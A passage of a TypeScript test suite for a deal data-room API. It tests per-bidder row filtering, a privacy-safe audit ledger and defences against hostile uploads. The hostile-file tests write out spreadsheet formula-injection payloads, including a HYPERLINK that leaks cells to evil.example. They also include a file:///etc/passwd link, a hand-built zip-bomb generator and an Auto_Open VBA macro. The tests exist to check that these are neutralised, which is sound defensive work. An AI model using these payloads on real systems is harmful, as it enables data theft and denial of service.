    expect((await buyerB.get(`/api/documents/${id}/rows`)).status).toBe(403);
    // A dataset declared without personal data is the deal team's word: delivered as stored.
    const plain = await uploadDataset({ data: Buffer.from('Contract,Value\r\nLease,100\r\n'), name: 'contracts.csv' }, { folderId: deal.folders.legal.id, entityId: deal.entities.ltd.id, personalData: 'none' });
    expect((await content(buyerB, plain)).status).toBe(200);
  });

  it('never delivers as stored a personal column that a new version renamed, before the deal team has classified it', async () => {
    const id = await uploadDataset({ data: censusCsv(census), name: 'versioned.csv' });
    await classify(id, { ...CENSUS_CLASSIFICATION, entityMap: { 'Falcon GmbH': deal.entities.gmbh.id, 'Falcon Ltd': deal.entities.ltd.id } });
    const renamed = Buffer.from(censusCsv(census).toString('utf8').replace('Employee ID,Name,Email', 'Employee ID,Full name,Email'));
    expect((await deal.manager.upload(`/api/documents/${id}/versions`, { data: renamed, name: 'versioned.csv' })).status).toBe(201);
    const res = await content(buyerB, id);
    const text = res.body.toString('utf8');
    for (const p of census.filter((x) => x.entity === 'Falcon Ltd').slice(0, 20)) expect(text).not.toContain(p.name);
    // Once the deal team has classified the new column, the bidder has its copy again.
    await classify(id, {
      ...CENSUS_CLASSIFICATION,
      columns: CENSUS_CLASSIFICATION.columns.map((c) => (c.name === 'Name' ? { ...c, name: 'Full name' } : c)),
      entityMap: { 'Falcon GmbH': deal.entities.gmbh.id, 'Falcon Ltd': deal.entities.ltd.id },
    });
    const again = csvRows((await content(buyerB, id)).body);
    expect(again[0]![1]).toBe('Full name');
    expect(again.slice(1).every((r) => /^P-/.test(r[1]!))).toBe(true);
  });

  it("never gives a party the rows of other entities when a new version renames or moves the entity column's sheet", async () => {
    const staff = [[...CENSUS_HEADER], ...census.slice(0, 300).map(censusRow)];
    const id = await uploadDataset({ data: await workbook([{ name: 'Staff', rows: staff }, { name: 'Notes', rows: [NOTES_HEADER, ...NOTES] }]), name: 'moving.xlsx' });
    // The deal team names the entity column without its sheet: the first one, Staff, at the time.
    await classify(id, { ...CENSUS_CLASSIFICATION, entityMap: { 'Falcon GmbH': deal.entities.gmbh.id, 'Falcon Ltd': deal.entities.ltd.id } });
    const ownRows = census.slice(0, 300).filter((p) => p.entity === 'Falcon GmbH').length;
    expect((await buyerA.get(`/api/documents/${id}/rows?sheet=Staff&limit=1000`)).body.total).toBe(ownRows);
    for (const sheets of [
      [{ name: 'Notes', rows: [NOTES_HEADER, ...NOTES] }, { name: 'Staff', rows: staff }],
      [{ name: 'Staff 2025', rows: staff }, { name: 'Notes', rows: [NOTES_HEADER, ...NOTES] }],
    ]) {
      expect((await deal.manager.upload(`/api/documents/${id}/versions`, { data: await workbook(sheets), name: 'moving.xlsx' })).status).toBe(201);
      const staffName = sheets.find((s) => s.rows === staff)!.name;
      const page = await buyerA.get(`/api/documents/${id}/rows?sheet=${encodeURIComponent(staffName)}&limit=1000`);
      const rows: string[][] = page.status === 200 ? page.body.rows : [];
      expect(rows.filter((r) => r[6] !== 'Falcon GmbH')).toEqual([]);
      const book = await content(buyerA, id, '?format=xlsx');
      if (book.status === 200) {
        const delivered = (await xlsxSheets(book.body)).get(staffName) ?? [];
        expect(delivered.slice(1).filter((r) => r[6] !== 'Falcon GmbH')).toEqual([]);
      }
    }
  });
});

describe('the ledger', () => {
  it('records every dataset delivery with its download id, and every refusal, with no cell value in any detail', async () => {
    const csv = await content(buyerB, censusId);
    const xlsx = await content(buyerB, bookId, '?format=xlsx');
    const page = await buyerB.get(`/api/documents/${censusId}/rows?limit=5`);
    const refused = await buyerB.get(`/api/documents/${censusId}/original`);
    const forbiddenRead = await buyerB.get(`/api/documents/${censusId}/dataset`);
    expect([csv.status, xlsx.status, page.status, refused.status, forbiddenRead.status]).toEqual([200, 200, 200, 403, 403]);
    const ids = [csv.headers['x-download-id'], xlsx.headers['x-download-id']];
    const deliveries = await auditEvents((e) => e.action === 'document.download' && ids.some((id) => e.details.includes(id)));
    expect(deliveries).toHaveLength(2);
    const views = await auditEvents((e) => e.action === 'document.view' && e.subjectId === censusId && e.details.includes('"offset":0'));
    expect(views.length).toBeGreaterThan(0);
    expect(JSON.parse(views.at(-1)!.details).downloadId).toMatch(/\S{8,}/);
    const refusals = await auditEvents((e) => e.decision === 'deny' && e.subjectId === censusId && (e.action === 'document.original' || e.action === 'dataset.read'));
    expect(refusals.map((e) => e.action).sort()).toEqual(expect.arrayContaining(['dataset.read', 'document.original']));
    // Nothing personal: no name, email, postcode or salary of the census, and no entity value of the map.
    const everything = (await auditEvents(() => true)).map((e) => e.details).join('\n');
    for (const p of census.slice(0, 200)) {
      expect(everything).not.toContain(p.email);
      expect(everything).not.toContain(p.employeeId);
      expect(everything).not.toContain(p.postcode);
    }
    for (const [, note] of NOTES) expect(everything).not.toContain(note);
  });
});

// ---------------------------------------------------------------------------------------------
// Hostile files

/** A zip written by hand: entries as given (deflated or stored), with a central directory. */
function zipOf(entries: Array<{ name: string; data: Buffer; deflated?: { bytes: Buffer; size: number; crc: number } }>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const body = e.deflated?.bytes ?? e.data;
    const size = e.deflated?.size ?? e.data.length;
    const crc = e.deflated?.crc ?? crc32(e.data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(e.deflated ? 8 : 0, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(e.deflated ? 8 : 0, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, body);
    centrals.push(central, name);
    offset += 30 + name.length + body.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** `repeat` copies of `unit`, deflated as a stream: a few MB of zip for GBs of XML. */
async function deflatedRepeat(prefix: string, unit: string, repeat: number, suffix: string) {
  const deflate = createDeflateRaw({ level: 9 });
  const chunks: Buffer[] = [];
  deflate.on('data', (c: Buffer) => chunks.push(c));
  const done = new Promise((resolve) => deflate.on('end', resolve));
  let crc = 0;
  let size = 0;
  const write = (b: Buffer) => {
    crc = crc32(b, crc);
    size += b.length;
    return new Promise<void>((resolve) => (deflate.write(b) ? resolve() : deflate.once('drain', () => resolve())));
  };
  await write(Buffer.from(prefix));
  const block = Buffer.from(unit.repeat(Math.max(1, Math.floor((1 << 20) / unit.length))));
  const perBlock = Math.max(1, Math.floor((1 << 20) / unit.length));
  for (let n = 0; n < repeat; n += perBlock) await write(n + perBlock <= repeat ? block : Buffer.from(unit.repeat(repeat - n)));
  await write(Buffer.from(suffix));
  deflate.end();
  await done;
  return { bytes: Buffer.concat(chunks), size, crc };
}

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`;
const ROOT_RELS = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`;
const WORKBOOK = `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>`;
const WORKBOOK_RELS = (extra = '') =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>${extra}</Relationships>`;
const SHEET_START = '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
const SHEET_END = '</sheetData></worksheet>';
const inline = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;

function handmadeXlsx(sheetXml: string | { bytes: Buffer; size: number; crc: number }, extra: Array<{ name: string; data: Buffer }> = [], rels = ''): Buffer {
  return zipOf([
    { name: '[Content_Types].xml', data: Buffer.from(CONTENT_TYPES) },
    { name: '_rels/.rels', data: Buffer.from(ROOT_RELS) },
    { name: 'xl/workbook.xml', data: Buffer.from(WORKBOOK) },
    { name: 'xl/_rels/workbook.xml.rels', data: Buffer.from(WORKBOOK_RELS(rels)) },
    ...extra,
    typeof sheetXml === 'string' ? { name: 'xl/worksheets/sheet1.xml', data: Buffer.from(sheetXml) } : { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(0), deflated: sheetXml },
  ]);
}

/** An OLE compound file holding a stream named EncryptedPackage, as Excel saves a workbook with a password. */
function encryptedWorkbook(): Buffer {
  const sector = 512;
  const header = Buffer.alloc(sector);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header, 0);
  header.writeUInt16LE(0x3e, 24);
  header.writeUInt16LE(3, 26);
  header.writeUInt16LE(0xfffe, 28);
  header.writeUInt16LE(9, 30);
  header.writeUInt16LE(6, 32);
  const directory = Buffer.alloc(sector);
  const name = Buffer.from('EncryptedPackage\u0000', 'utf16le');
  name.copy(directory, 128);
  directory.writeUInt16LE(name.length, 128 + 64);
  return Buffer.concat([header, directory, Buffer.alloc(sector * 6, 0x5a)]);
}

async function notADataset(id: string) {
  const res = await deal.manager.get(`/api/documents/${id}/dataset`);
  expect(res.status).toBe(409);
  expect(res.body.error.code).toBe('not_a_dataset');
  return res.body.error.message as string;
}

/** Uploads a hostile file; it is refused with a clear 4xx, or kept as a plain file whose GET …/dataset says why. */
async function uploadHostile(data: Buffer, name: string, reason: RegExp) {
  const rowsBefore = await t.db('documents').count({ n: '*' }).first();
  const objectsBefore = storedObjectKeys(t).length;
  const rssBefore = process.memoryUsage().rss;
  // In Legal, filed under GmbH: party A may see it.
  const res = await upload({ data, name }, { folderId: deal.folders.legal.id, classification: 'standard', personalData: 'none' });
  const rssGrowth = process.memoryUsage().rss - rssBefore;
  expect(res.status).toBeLessThan(500);
  if (res.status >= 400) {
    expect(res.body.error.message.length).toBeGreaterThan(10);
    expect(await t.db('documents').count({ n: '*' }).first()).toEqual(rowsBefore);
    expect(storedObjectKeys(t).length).toBe(objectsBefore);
    return { res, rssGrowth, message: res.body.error.message as string };
  }
  expect(res.body.kind).toBe('document');
  const message = await notADataset(res.body.id);
  expect(message).toMatch(reason);
  // Kept as a plain file: no description row pretends otherwise, no classification can be put on it.
  expect((await deal.manager.put(`/api/documents/${res.body.id}/dataset`, { columns: [] })).status).toBe(409);
  // A bidder who may see the file is told it is no dataset, and nothing of why: the file's make-up is the deal team's.
  const asBidder = await buyerA.get(`/api/documents/${res.body.id}/rows`);
  expect([asBidder.status, asBidder.body.error.code]).toEqual([409, 'not_a_dataset']);
  expect(asBidder.body.error.message).not.toMatch(reason);
  return { res, rssGrowth, message };
}

describe('hostile files', () => {
  it('delivers formula-like cells as text: escaped in CSV, never a formula in XLSX', async () => {
    const hostile = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A2,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-1+cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', "'=1+1"];
    const csv = ['Name,Note', ...hostile.map((h, i) => `P${i},"${h.replace(/"/g, '""')}"`)].join('\r\n');
    const id = await uploadDataset({ data: Buffer.from(csv), name: 'formulas.csv' }, { folderId: deal.folders.legal.id, entityId: deal.entities.ltd.id, classification: 'standard', personalData: 'none' });
    const delivered = csvRows((await content(buyerB, id)).body).slice(1);
    for (const row of delivered) expect(row[1]).toMatch(/^'/);
    const book = await content(buyerB, id, '?format=xlsx');
    const zip = await JSZip.loadAsync(book.body);
    for (const name of Object.keys(zip.files).filter((n) => n.startsWith('xl/worksheets/'))) {
      const xml = await zip.file(name)!.async('string');
      expect(xml).not.toMatch(/<f[ >]/);
    }
    expect(Object.keys(zip.files).some((n) => /externalLink|vbaProject/i.test(n))).toBe(false);
  });

  it('reads an XLSX formula only by its cached result, and drops external links', async () => {
    const sheet = `${SHEET_START}<row r="1">${inline('A1', 'Name')}${inline('B1', 'Total')}</row><row r="2">${inline('A2', 'Anna')}<c r="B2" t="str"><f>[1]Sheet1!A1&amp;cmd|' /C calc'!A0</f><v>=cmd|' /C calc'!A0</v></c></row>${SHEET_END}`;
    const link = `<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>`;
    const data = handmadeXlsx(sheet, [{ name: 'xl/externalLinks/externalLink1.xml', data: Buffer.from(link) }], '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/><Relationship Id="rId10" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="file:///etc/passwd" TargetMode="External"/>');
    const id = await uploadDataset({ data, name: 'links.xlsx' }, { folderId: deal.folders.legal.id, entityId: deal.entities.ltd.id, classification: 'standard', personalData: 'none' });
    const csv = csvRows((await content(buyerB, id, '?format=csv')).body);
    expect(csv[1]).toEqual(['Anna', "'=cmd|' /C calc'!A0"]);
    const zip = await JSZip.loadAsync((await content(buyerB, id, '?format=xlsx')).body);
    const names = Object.keys(zip.files).join('\n');
    expect(names).not.toMatch(/externalLink/);
    for (const name of Object.keys(zip.files).filter((n) => n.endsWith('.rels'))) expect(await zip.file(name)!.async('string')).not.toContain('file:///');
  });

  it('keeps a CSV with a cell of 10 MB as a plain file, saying why, in bounded memory', async () => {
    const data = Buffer.concat([Buffer.from('Name,Note\r\nAnna,"'), Buffer.alloc(10 * 2 ** 20, 'x'), Buffer.from('"\r\n')]);
    const { rssGrowth } = await uploadHostile(data, 'big-cell.csv', /characters|cell/i);
    expect(rssGrowth).toBeLessThan(200 * 2 ** 20);
  }, 120_000);

  it('keeps a sheet of 16,384 columns as a plain file, saying why', async () => {
    const header = Array.from({ length: 16_384 }, (_, i) => `c${i}`).join(',');
    await uploadHostile(Buffer.from(`${header}\r\n${header}\r\n`), 'wide.csv', /columns/i);
    const cells = Array.from({ length: 16_384 }, (_, i) => `<c r="${colName(i)}1" t="inlineStr"><is><t>v</t></is></c>`).join('');
    await uploadHostile(handmadeXlsx(`${SHEET_START}<row r="1">${cells}</row>${SHEET_END}`), 'wide.xlsx', /column/i);
  }, 120_000);

  it('keeps a ragged CSV (a value beyond its header) as a plain file, naming the row', async () => {
    const message = (await uploadHostile(Buffer.from('Name,Salary\r\nAnna,45000\r\nBen,52,000\r\n'), 'ragged.csv', /row 3/i)).message;
    expect(message).not.toContain('Ben');
  }, 60_000);

  it('guesses a delimiter only among comma, semicolon, tab and pipe, whatever a header of 100 odd characters holds', async () => {
    const odd = Array.from({ length: 100 }, (_, i) => String.fromCharCode(0xa1 + i)).join('');
    const id = await uploadDataset({ data: Buffer.from(`Name${odd}Note\r\nAnna${odd}x\r\n`), name: 'odd.csv' }, { folderId: deal.folders.legal.id, classification: 'standard', personalData: 'none' });
    const description = await deal.manager.get(`/api/documents/${id}/dataset`);
    expect(description.body.sheets[0].columns).toHaveLength(1);
    const splitOnLetter = await uploadDataset({ data: Buffer.from('NameaNoteaX\r\nAnnaaBenaC\r\n'), name: 'letters.csv' }, { folderId: deal.folders.legal.id, classification: 'standard', personalData: 'none' });
    expect((await deal.manager.get(`/api/documents/${splitOnLetter}/dataset`)).body.sheets[0].columns).toHaveLength(1);
  });

  it('refuses or keeps as a plain file a CSV that is binary', async () => {
    const data = Buffer.concat([Buffer.from('Name,Note\r\nAnna,ok\r\n'), Buffer.from(Array.from({ length: 5000 }, (_, i) => (i * 7919) % 256))]);
    await uploadHostile(data, 'binary.csv', /binary/i);
  }, 60_000);

  it('stops an XLSX zip bomb early, in bounded memory, and keeps nothing half-written', async () => {
    const row = `<row>${inline('A1', 'x')}</row>`;
    const bomb = await deflatedRepeat(`${SHEET_START}<row r="1">${inline('A1', 'Name')}</row>`, row, 12_000_000, SHEET_END);
    expect(bomb.size).toBeGreaterThan(500 * 2 ** 20);
    const started = Date.now();
    const { rssGrowth } = await uploadHostile(handmadeXlsx(bomb), 'bomb.xlsx', /zip bomb|unpacks/i);
    expect(rssGrowth).toBeLessThan(200 * 2 ** 20);
    expect(Date.now() - started).toBeLessThan(60_000);
  }, 180_000);

  it('stops a workbook whose shared strings unpack beyond their budget', async () => {
    const strings = await deflatedRepeat('<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">', '<si><t>aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa</t></si>', 8_000_000, '</sst>');
    const sheet = `${SHEET_START}<row r="1"><c r="A1" t="s"><v>0</v></c></row>${SHEET_END}`;
    const data = handmadeXlsx(sheet, [{ name: 'xl/sharedStrings.xml', data: Buffer.alloc(0), deflated: strings } as never]);
    const { rssGrowth } = await uploadHostile(data, 'strings.xlsx', /unpacks|zip bomb|shared/i);
    expect(rssGrowth).toBeLessThan(200 * 2 ** 20);
  }, 180_000);

  it('refuses or keeps as a plain file an encrypted workbook, saying it is encrypted', async () => {
    await uploadHostile(encryptedWorkbook(), 'locked.xlsx', /encrypted|password/i);
  }, 60_000);

  it('refuses or keeps as a plain file a workbook with macros, saying so', async () => {
    const sheet = `${SHEET_START}<row r="1">${inline('A1', 'Name')}</row><row r="2">${inline('A2', 'Anna')}</row>${SHEET_END}`;
    const macro = handmadeXlsx(sheet, [{ name: 'xl/vbaProject.bin', data: Buffer.from('Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\nShell "calc"\r\nEnd Sub') }]);
    const res = await uploadHostile(macro, 'macro.xlsm', /macro/i);
    if (res.res.status >= 400) expect(res.res.status).toBe(415);
  }, 60_000);
});

function colName(i: number): string {
  let name = '';
  for (let n = i + 1; n > 0; n = Math.floor((n - 1) / 26)) name = String.fromCharCode(65 + ((n - 1) % 26)) + name;
  return name;
}
